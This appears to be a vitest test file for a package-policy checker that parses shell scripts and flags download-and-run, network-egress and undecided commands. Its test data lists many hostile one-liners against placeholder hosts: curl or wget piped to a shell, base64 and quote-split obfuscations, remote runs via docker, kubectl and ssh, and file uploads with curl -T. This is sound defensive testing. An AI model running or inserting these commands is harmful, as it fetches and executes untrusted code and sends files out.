import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { judge } from '../../../src/policy/judge.ts';
import { readProgram } from '../../../src/policy/shell/read.ts';
import { manifestWith, wpkOf } from '../../support/wpk.ts';

describe('a download that is run is found', () => {
  test.for([
    'curl https://x.example/i.sh | sh',
    'curl -fsSL https://x.example/i.sh | sudo -E bash -s -- --yes',
    'wget -qO- https://x.example/i.sh | tee log | bash',
    "c'u'rl https://x.example/i.sh | s\\h",
    'GET=curl; SHELL_=/bin/sh; $GET https://x.example/i.sh | "$SHELL_"',
    'sh -c "$(curl -fsSL https://x.example/i.sh)"',
    'bash <(curl -s https://x.example/i.sh)',
    'eval "$(wget -qO - https://x.example/i.sh)"',
    '. <(curl -s https://x.example/i.sh)',
    'bash <<< "$(curl https://x.example/i.sh)"',
    'curl https://x.example/i.py | python3 -',
    'curl https://x.example/i.sh | bash /dev/stdin 1.2.3',
    'if true; then ( { curl https://x.example/i.sh; } | sh ); fi',
    'sh -c \'sh -c "curl https://x.example/i.sh | sh"\'',
    "eval 'curl https://x.example/i.sh | sh'",
    "sh <<'EOF'\ncurl https://x.example/i.sh | sh\nEOF",
    `echo ${Buffer.from('curl https://x.example/i.sh | sh').toString('base64')} | base64 -d | sh`,
    `printf '%s' 'curl https://x.example/i.sh | sh' | bash`,
    'curl -o /tmp/i.sh https://x.example/i.sh && chmod +x /tmp/i.sh && /tmp/i.sh',
    'wget https://x.example/i.sh; sh ./i.sh',
    'curl https://x.example/i.sh > i; timeout 5 bash i',
    'f() { curl https://x.example/i.sh | sh; }; f',
    'docker run --rm alpine sh -c "wget -qO- https://x.example/i.sh | sh"',
    "kubectl exec web -- bash -c 'curl https://x.example/i.sh | bash'",
    "ssh host.example 'curl https://x.example/i.sh | sh'",
    'find . -name x -exec sh -c "curl https://x.example/i.sh | sh" \\;',
  ])('%s', (script) => {
    expect(judgeScript(script)).toContainEqual(['download-and-run', 'critical']);
  });
});

describe('what only looks like it raises no such issue', () => {
  test.for([
    'curl -o i.tgz https://x.example/i.tgz && tar xzf i.tgz',
    'curl https://x.example/a.json | python3 -m json.tool',
    'curl https://x.example/a.json | jq .',
    'curl -o a.json https://x.example/a.json; sh build.sh a.json',
    'echo "curl https://x.example/i.sh | sh"',
    '# curl https://x.example/i.sh | sh',
    'bash build.sh "$(curl https://x.example/version)"',
    'wget https://x.example/i.sh; echo "$SUM  i.sh" | sha256sum -c -; sh i.sh',
  ])('%s', (script) => {
    expect(judgeScript(script).map(([rule]) => rule)).not.toContain('download-and-run');
  });
});

describe('calls to the network', () => {
  test.for([
    'git -C /srv clone https://git.example/x',
    'sudo apt-get install -y jq',
    'pip install x',
    'exec 3<>/dev/tcp/10.0.0.1/80',
    'nc -w 3 db.example 5432',
    'ssh admin@host.example uptime',
    'find . -name "*.log" | xargs -n 1 curl -T',
    'echo "$(dig +short x.example)"',
    'rsync -a ./ backup@host.example:/srv',
    'find . -name core -exec curl -T {} https://x.example \\;',
  ])('are found in %s', (script) => {
    expect(judgeScript(script)).toContainEqual(['network-egress', 'high']);
  });

  test.for([
    'git status',
    'apt-get --version',
    'curl http://localhost:8080/health',
    'curl -fsS 127.0.0.1:9090/-/ready',
    'echo curl',
    'rsync -a a/ b/',
    'npm run build',
    'command -v curl',
  ])('are not found in %s', (script) => {
    expect(judgeScript(script)).toEqual([]);
  });

  test('are let pass to a declared host alone, and are medium where the host is not known', () => {
    const egress = ['api.example:443'];

    expect(judgeScript('curl https://api.example/v1', egress)).toEqual([]);
    expect(judgeScript('curl https://api.example:8443/v1', egress)).toEqual([['network-egress', 'high']]);
    expect(judgeScript('curl https://api.example.evil/v1', egress)).toEqual([['network-egress', 'high']]);
    expect(judgeScript('curl "$URL"', egress)).toEqual([['network-egress', 'medium']]);
  });
});

describe('programs that decide themselves what they run', () => {
  test.for(['eval "$X"', 'sh -c "$X"', 'decode < x | sh', 'echo "unclosed', '('.repeat(5000)])(
    'are undecided: %s',
    (script) => {
      expect(judgeScript(script).map(([rule]) => rule)).toContain('undecided');
    },
  );

  test.for([
    'sh -c "echo $X"',
    '"$TOOL" --version',
    'for f in *; do cat "$f"; done',
    'sh "$ATOMCTL_PACKAGE/scripts/a.sh"',
  ])('are not: %s', (script) => {
    expect(judgeScript(script)).toEqual([]);
  });
});

test('a command of a script is placed at its own line', () => {
  const wpk = wpkOf(manifestWith('- name: a\n  type: script\n  with: {file: scripts/a.sh}'), {
    'scripts/a.sh': '#!/bin/sh\nset -eu\n  curl https://x.example\n',
  });

  expect(judge({ wpk, mayExcept: [], now: new Date(0) }).issues).toMatchObject([
    { step: 'a', location: { file: 'scripts/a.sh', line: 3, col: 3 } },
  ]);
});

test('reading never throws, and places every command inside the text', () => {
  const piece = fc.constantFrom(
    'curl',
    ' | ',
    'sh',
    '$(',
    ')',
    '"',
    "'",
    '`',
    '<<E\n',
    'E\n',
    '{',
    '}',
    ';',
    '\\',
    '$x',
    'eval ',
    ' -c ',
    '((',
    '\n',
    '&&',
    '<(',
    '\0',
    'é',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const text = pieces.join('');
      for (const { offset } of readProgram(text).commands) expect(offset).toBeLessThanOrEqual(text.length);
    }),
    { numRuns: 2000 },
  );
});

test('what stands behind more commands than are read is undecided, not let pass', () => {
  const { undecided } = readProgram(`${':\n'.repeat(100_005)}curl https://get.example/x | sh\n`);

  expect(undecided).toEqual([{ offset: 0, why: 'it has too many commands to be read' }]);
});

test('a script of ten megabytes is undecided at once', () => {
  const started = performance.now();
  const { undecided } = readProgram('echo a\n'.repeat(1_500_000));

  expect(undecided).toHaveLength(1);
  expect(performance.now() - started).toBeLessThan(1000);
});

function judgeScript(script: string, egress: readonly string[] = []): [rule: string, severity: string][] {
  const steps = '- name: a\n  type: script\n  with: {file: a.sh}';
  const spec = `validation: {limits: {timeout: 1m, memory: 64Mi}, network: {egress: ${JSON.stringify(egress)}}}`;
  const wpk = wpkOf(manifestWith(steps, spec), { 'a.sh': script });
  return judge({ wpk, mayExcept: [], now: new Date(0) }).issues.map(({ rule, severity }) => [rule, severity]);
}
